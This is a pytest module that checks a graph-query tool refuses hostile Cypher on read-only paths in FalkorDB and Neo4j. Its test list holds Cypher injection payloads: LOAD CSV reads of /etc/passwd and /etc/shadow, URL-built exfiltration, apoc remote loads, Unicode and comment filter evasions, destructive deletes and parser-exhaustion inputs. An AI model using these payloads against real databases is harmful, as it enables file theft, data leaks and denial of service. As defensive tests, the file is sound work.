"""Hostile queries on read-only paths, on both stores: each is refused with one plain sentence, or runs
read-only, with no node or relationship written, no file's content in the result and no request out.

Every query goes through ``Store.query(write=False)``, which the console, ``ptgraph query`` without
``--write`` and saved queries all use; a few go through the CLI as well. The stores hold the small
example review (one load per store for the whole module: nothing here may write).
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from graph.errors import QueryFailed, QueryNotAllowed, QueryRefused, StoreError
from graph.load import load_package
from graph.stores.falkor_store import FalkorStore
from graph.stores.neo4j_store import Neo4jStore
from graph.stores.store import Store
from loaders.package import read_package
from tests import neo4j_server
from tests.listener import Listener, listening

REFUSED, FAILS, RUNS = "refused", "fails", "runs"  # ptgraph or the database refused it; it failed; it ran
PASSWD_LINE = "root:x:0:"  # how /etc/passwd begins  # noqa: S105 - not a secret
DUMPS = ("errMsg", "errCtx", "Traceback", "neo4j_code", "gql_status", "\n")
DEEP = 5000

# (name, query, parameters, outcomes allowed). "{url}" is the listening server's address.
HOSTILE: list[tuple[str, str, dict[str, Any], set[str]]] = [
    # writes: the database refuses them in a read-only transaction
    ("create", "CREATE (:Note {id: 'x'})", {}, {REFUSED}),
    ("detach delete", "MATCH (n) DETACH DELETE n", {}, {REFUSED}),
    ("set", "MATCH (n) SET n.name = 'pwned'", {}, {REFUSED}),
    ("merge", "MERGE (n:Context {id: 'x'})", {}, {REFUSED}),
    ("remove", "MATCH (n) REMOVE n.name", {}, {REFUSED}),
    ("write in CALL {}", "CALL { CREATE (:Note) } RETURN 1 AS one", {}, {REFUSED}),
    ("delete in CALL {}", "CALL { MATCH (n) DETACH DELETE n } RETURN 1 AS one", {}, {REFUSED}),
    ("write in CALL {} with import", "MATCH (n) CALL { WITH n SET n.x = 1 } RETURN count(*) AS c", {},
     {REFUSED, FAILS}),
    ("FOREACH create", "FOREACH (x IN [1] | CREATE (:Note))", {}, {REFUSED}),
    ("FOREACH set", "MATCH (n) FOREACH (x IN [1] | SET n.hacked = true)", {}, {REFUSED}),
    ("IN TRANSACTIONS", "CALL { CREATE (:Note) } IN TRANSACTIONS", {}, {REFUSED, FAILS}),
    ("after a block comment", "/* harmless */ CREATE (:Note)", {}, {REFUSED}),
    ("after a line comment", "// just reading\nCREATE (:Note)", {}, {REFUSED}),
    ("odd case", "cReAtE (:Note)", {}, {REFUSED}),
    ("after WITH", "WITH 1 AS x CREATE (:Note {x: x})", {}, {REFUSED}),
    ("UNWIND merge", "UNWIND [1, 2] AS x MERGE (:Note {id: x})", {}, {REFUSED}),
    ("create index", "CREATE INDEX FOR (n:Context) ON (n.secret)", {}, {REFUSED, FAILS}),
    ("drop index", "DROP INDEX ON :Context(id)", {}, {REFUSED, FAILS}),
    ("write procedure", "CALL db.idx.fulltext.createNodeIndex('Context', 'name')", {}, {REFUSED}),
    ("label procedure", "CALL db.createLabel('X')", {}, {REFUSED}),
    # write keywords only inside strings and comments: these read, and must run
    ("CREATE in a string", "RETURN 'CREATE (:Note)' AS s", {}, {RUNS}),
    ("DELETE in a double-quoted string", 'RETURN "MATCH (n) DETACH DELETE n" AS s', {}, {RUNS}),
    ("SET in a filter", "MATCH (c:Context) WHERE c.name CONTAINS 'SET' RETURN count(c) AS n", {}, {RUNS}),
    ("LOAD CSV in a string", "RETURN 'LOAD CSV FROM \\'file:///etc/passwd\\'' AS s", {}, {RUNS}),
    ("procedure in a string", "RETURN 'CALL dbms.listConfig()' AS s", {}, {RUNS}),
    ("keywords as a quoted alias", "RETURN 1 AS `LOAD CSV`", {}, {RUNS}),
    ("write in a line comment", "// CREATE (:Note)\nRETURN 1 AS one", {}, {RUNS}),
    ("LOAD CSV in a block comment", "/* LOAD CSV FROM 'file:///etc/passwd' */ RETURN 1 AS one", {}, {RUNS}),
    ("semicolon in a string", "RETURN 'a;b' AS s", {}, {RUNS}),
    ("write in a parameter", "RETURN $q AS q", {"q": "CREATE (:Note)"}, {RUNS}),
    # several statements
    ("second statement", "RETURN 1; CREATE (:Note)", {}, {REFUSED}),
    ("second statement, spaced", "RETURN 1 ; MATCH (n) DETACH DELETE n", {}, {REFUSED}),
    ("second statement after a comment", "RETURN 1;\n// and then\nCREATE (:Note)", {}, {REFUSED}),
    ("one statement with a trailing semicolon", "RETURN 1 AS one;", {}, {RUNS}),
    # Unicode lookalikes
    ("fullwidth CREATE", "ＣＲＥＡＴＥ (:Note)", {}, {REFUSED, FAILS}),
    ("Cyrillic E in CREATE", "CR\u0415ATE (:Note)", {}, {REFUSED, FAILS}),
    ("LOAD CSV with a no-break space", "LOAD\u00a0CSV FROM 'file:///etc/passwd' AS r RETURN r", {},
     {REFUSED}),
    ("fullwidth LOAD CSV", "ＬＯＡＤ ＣＳＶ FROM 'file:///etc/passwd' AS r RETURN r", {}, {REFUSED}),
    ("LOAD CSV with a zero-width space", "LOAD\u200bCSV FROM 'file:///etc/passwd' AS r RETURN r", {},
     {REFUSED}),
    ("fullwidth dbms", "CALL ｄｂｍｓ.listConfig()", {}, {REFUSED}),
    ("line separator before SET", "MATCH (n)\u2028SET n.x = 1", {}, {REFUSED, FAILS}),
    ("allowed procedure, no-break space", "CALL db.labels\u00a0() YIELD label RETURN label", {},
     {RUNS, FAILS}),
    # procedures and server commands
    ("dbms.listConfig", "CALL dbms.listConfig() YIELD name, value RETURN name, value", {}, {REFUSED}),
    ("dbms.procedures", "CALL dbms.procedures()", {}, {REFUSED}),
    ("dbms.components", "CALL dbms.components()", {}, {REFUSED}),
    ("dbms.security.listUsers", "CALL dbms.security.listUsers()", {}, {REFUSED}),
    ("apoc.load.json", "CALL apoc.load.json('{url}/apoc') YIELD value RETURN value", {}, {REFUSED}),
    ("apoc.load.csv", "CALL apoc.load.csv('file:///etc/passwd') YIELD list RETURN list", {}, {REFUSED}),
    ("apoc.import.csv", "CALL apoc.import.csv([], [], {})", {}, {REFUSED}),
    ("apoc.export.csv.all", "CALL apoc.export.csv.all('/tmp/ptgraph-leak.csv', {})", {}, {REFUSED}),
    ("backtick apoc", "CALL `apoc`.`load`.`json`('{url}/ticks') YIELD value RETURN value", {}, {REFUSED}),
    ("commented apoc", "CALL apoc /* x */ . load . json('{url}/c') YIELD value RETURN value", {}, {REFUSED}),
    ("apoc.cypher.run", "CALL apoc.cypher.run('CREATE (:Note)', {}) YIELD value RETURN value", {}, {REFUSED}),
    ("apoc cypher function", "RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) RETURN n', {}) AS x", {},
     {REFUSED}),
    ("apoc cypher in a map", "RETURN {x: apoc.cypher.runFirstColumnSingle('RETURN 1', {})} AS m", {},
     {REFUSED}),
    ("dynamic cypher", "WITH 'LOAD CSV' AS q CALL apoc.cypher.run(q, {}) YIELD value RETURN value", {},
     {REFUSED}),
    ("unknown procedure", "CALL ptgraph.nothing()", {}, {REFUSED}),
    ("db.labels", "CALL db.labels() YIELD label RETURN label", {}, {RUNS}),
    ("db.relationshipTypes", "CALL db.relationshipTypes() YIELD relationshipType RETURN relationshipType",
     {}, {RUNS}),
    ("db.propertyKeys", "CALL db.propertyKeys() YIELD propertyKey RETURN propertyKey", {}, {RUNS}),
    ("SHOW SETTINGS", "SHOW SETTINGS YIELD name, value RETURN name, value", {}, {REFUSED}),
    ("SHOW TRANSACTIONS", "SHOW TRANSACTIONS", {}, {REFUSED}),
    ("TERMINATE", "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", {}, {REFUSED}),
    ("USE system", "USE system SHOW USERS", {}, {REFUSED}),
    ("USE another database", "USE neo4j MATCH (n) RETURN count(n) AS n", {}, {REFUSED}),
    ("SHOW INDEXES", "SHOW INDEXES", {}, {RUNS, FAILS}),  # Neo4j runs it; FalkorDB has no SHOW
    # LOAD CSV, from files and from the web
    ("file URL", "LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r", {}, {REFUSED}),
    ("file URL built", "LOAD CSV FROM 'file:///' + 'etc/passwd' AS r RETURN r", {}, {REFUSED}),
    ("http URL", "LOAD CSV FROM '{url}/' + 'plain' AS r RETURN r", {}, {REFUSED}),
    ("https URL naming the review", "MATCH (r:Review) LOAD CSV FROM 'https://' + r.id + "
     "'.example.invalid/x.csv' AS row RETURN row", {}, {REFUSED}),
    ("http URL carrying content", "MATCH (r:Review) LOAD CSV FROM '{url}/' + r.id AS row RETURN row", {},
     {REFUSED}),
    ("with headers", "LOAD CSV WITH HEADERS FROM '{url}/h' AS row RETURN row", {}, {REFUSED}),
    ("odd case LOAD CSV", "lOaD cSv FROM 'file:///etc/shadow' AS r RETURN r", {}, {REFUSED}),
    ("comment between", "LOAD // x\n CSV FROM 'file:///etc/passwd' AS r RETURN r", {}, {REFUSED}),
    ("block comment between", "LOAD/**/CSV FROM 'file:///etc/passwd' AS r RETURN r", {}, {REFUSED}),
    ("inside CALL {}", "CALL { LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r } RETURN r", {}, {REFUSED}),
    ("LOAD CSV after WITH", "WITH 1 AS x LOAD CSV FROM 'file:///proc/self/environ' AS r RETURN r", {},
     {REFUSED}),
    ("URL in a parameter", "LOAD CSV FROM $url AS r RETURN r", {"url": "{url}/param"}, {REFUSED}),
    # nesting, length and long prefixes: FalkorDB's parser is exponential in them
    ("20 parentheses", "RETURN " + "(" * 20 + "1" + ")" * 20, {}, {REFUSED}),
    ("22 parentheses", "RETURN " + "(" * 22 + "1" + ")" * 22, {}, {REFUSED}),
    (f"{DEEP} parentheses", "RETURN " + "(" * DEEP + "1" + ")" * DEEP, {}, {REFUSED}),
    ("20 minus signs", "RETURN " + "-" * 20 + "1", {}, {REFUSED}),
    ("30 plus signs", "RETURN " + "+ " * 30 + "1", {}, {REFUSED}),
    ("30 NOTs", "RETURN " + "NOT " * 30 + "true", {}, {REFUSED}),
    ("10 minus-parentheses", "RETURN " + "-(" * 10 + "1" + ")" * 10, {}, {REFUSED}),
    ("20 lists", "RETURN " + "[" * 20 + "1" + "]" * 20, {}, {REFUSED}),
    ("20 maps", "RETURN " + "{a: " * 20 + "1" + "}" * 20, {}, {REFUSED}),
    ("20 CASEs", "RETURN " + "CASE WHEN true THEN " * 20 + "1" + " END" * 20, {}, {REFUSED}),
    ("20 function calls", "RETURN " + "abs(" * 20 + "1" + ")" * 20, {}, {REFUSED}),
    ("many deep siblings", "RETURN " + " + ".join(["(" * 11 + "1" + ")" * 11] * 40), {}, {REFUSED}),
    ("too long", "RETURN " + " + ".join(["1"] * 8000) + " AS n", {}, {REFUSED}),
    ("12 parentheses still read", "RETURN " + "(" * 12 + "1" + ")" * 12 + " AS n", {}, {RUNS}),
    # huge ranges and runaways
    ("range of 100 million", "UNWIND range(1, 100000000) AS x WITH x WHERE x % 7 = 3 RETURN count(*) AS c",
     {}, {REFUSED}),
    ("range from a parameter", "UNWIND range(1, $n) AS x RETURN count(*) AS c", {"n": 10 ** 9}, {REFUSED}),
    ("negative range", "RETURN size(range(-1000000000, 1000000000)) AS n", {}, {REFUSED}),
    ("10 million rows, limited", "UNWIND range(1, 10000000) AS x RETURN x", {}, {RUNS}),
    ("cartesian runaway", "UNWIND range(1, 30000) AS a UNWIND range(1, 30000) AS b WITH a, b "
     "WHERE a * b = -1 RETURN count(*) AS c", {}, {FAILS}),
]
TIMEOUT_MS = 1500


def _fresh(store: Store) -> Store:
    load_package(store, read_package("example"))
    return store


@pytest.fixture(scope="module", params=["embedded", "neo4j"])
def hostile_store(request: pytest.FixtureRequest, ptgraph_home: Any) -> Iterator[Store]:
    """The example review on one store kind, for the whole module (nothing here writes)."""
    if request.param == "embedded":
        store: Store = FalkorStore(f"hostile_{uuid.uuid4().hex[:8]}")
        yield _fresh(store)
        assert isinstance(store, FalkorStore)
        store.drop()
    else:
        store = Neo4jStore(request.getfixturevalue("neo4j_uri"), neo4j_server.USER, neo4j_server.PASSWORD)
        store.query("MATCH (n) DETACH DELETE n", write=True)
        yield _fresh(store)
    store.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    with listening() as running:
        yield running


def _counts(store: Store) -> dict[str, int]:
    return store.run("count_nodes")[0]


def _fill(value: Any, url: str) -> Any:
    return value.replace("{url}", url) if isinstance(value, str) else value


def _outcome(store: Store, text: str, params: dict[str, Any]) -> tuple[str, str, list[dict[str, Any]]]:
    try:
        result = store.query(text, params, write=False, limit=1000, timeout_ms=TIMEOUT_MS)
    except (QueryNotAllowed, QueryRefused) as e:
        return REFUSED, str(e), []
    except QueryFailed as e:
        return FAILS, str(e), []
    return RUNS, "", result.rows


def assert_plain(message: str) -> None:
    """One plain sentence: no database dump, no traceback, one line, short."""
    assert message and not any(dump in message for dump in DUMPS), message
    assert len(message) < 400, message


@pytest.mark.parametrize(("name", "text", "params", "allowed"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_hostile_query(hostile_store: Store, listener: Listener, name: str, text: str,
                       params: dict[str, Any], allowed: set[str]) -> None:
    before = _counts(hostile_store)
    started = time.perf_counter()
    outcome, message, rows = _outcome(hostile_store, _fill(text, listener.url),
                                      {k: _fill(v, listener.url) for k, v in params.items()})
    elapsed = time.perf_counter() - started
    assert outcome in allowed, f"{name}: {outcome} ({message})"
    if outcome != RUNS:
        assert_plain(message)
    assert _counts(hostile_store) == before, f"{name} wrote"
    assert PASSWD_LINE not in repr(rows) and listener.hits == []
    if outcome == REFUSED:
        assert elapsed < 5, f"{name} took {elapsed:.1f} s"  # never after the parser's exponential time


def test_there_are_enough_hostile_queries() -> None:
    assert len(HOSTILE) >= 60 and len({h[0] for h in HOSTILE}) == len(HOSTILE)


def test_a_limited_ten_million_row_query_says_it_was_cut(hostile_store: Store) -> None:
    result = hostile_store.query("UNWIND range(1, 10000000) AS x RETURN x", limit=1000)
    assert len(result.rows) == 1000 and result.truncated and result.rows[-1] == {"x": 1000}


def test_refusals_name_what_was_refused(hostile_store: Store) -> None:
    def refusal(text: str) -> str:
        with pytest.raises(QueryNotAllowed) as refused:
            hostile_store.query(text)
        return str(refused.value)

    assert refusal("RETURN " + "(" * 20 + "1" + ")" * 20).startswith(
        "The query nests brackets and operators 20 levels deep")
    assert refusal("CALL apoc.load.json('x')").startswith("The procedure apoc.load.json is refused")
    assert refusal("LOAD CSV FROM 'file:///x' AS r RETURN r").startswith("LOAD CSV is refused")
    assert "100,000,000 numbers" in refusal("RETURN size(range(1, 100000000)) AS n")


def test_the_cli_refuses_in_one_line(hostile_store: Store, cli_env: dict[str, str]) -> None:
    """``ptgraph query`` prints the same sentence, exits 1, no traceback; --write lifts the outside rule."""
    env = dict(cli_env)
    args = [sys.executable, "-m", "cli"]
    if isinstance(hostile_store, Neo4jStore):
        env.update(NEO4J_PASSWORD=neo4j_server.PASSWORD)
        args += ["--uri", hostile_store.uri]
    else:
        assert isinstance(hostile_store, FalkorStore)
        env["PTGRAPH_GRAPH"] = hostile_store.graph_name
    for text, said in (("RETURN " + "-" * 30 + "1", "levels deep"), ("CALL dbms.listConfig()", "refused"),
                       ("RETURN $review AS r", "add -p review=...")):
        done = subprocess.run([*args, "query", text], env=env, capture_output=True, text=True, timeout=120,
                              cwd=os.getcwd())
        assert done.returncode == 1 and said in done.stderr, done.stderr
        assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
    zero = subprocess.run([*args, "query", "RETURN 1", "--timeout", "0"], env=env, capture_output=True,
                          text=True, timeout=120)
    assert zero.returncode == 2 and "1<=x<=300" in zero.stderr and "Traceback" not in zero.stderr


def test_every_refusal_is_a_store_error() -> None:
    assert issubclass(QueryNotAllowed, QueryRefused) and issubclass(QueryRefused, StoreError)
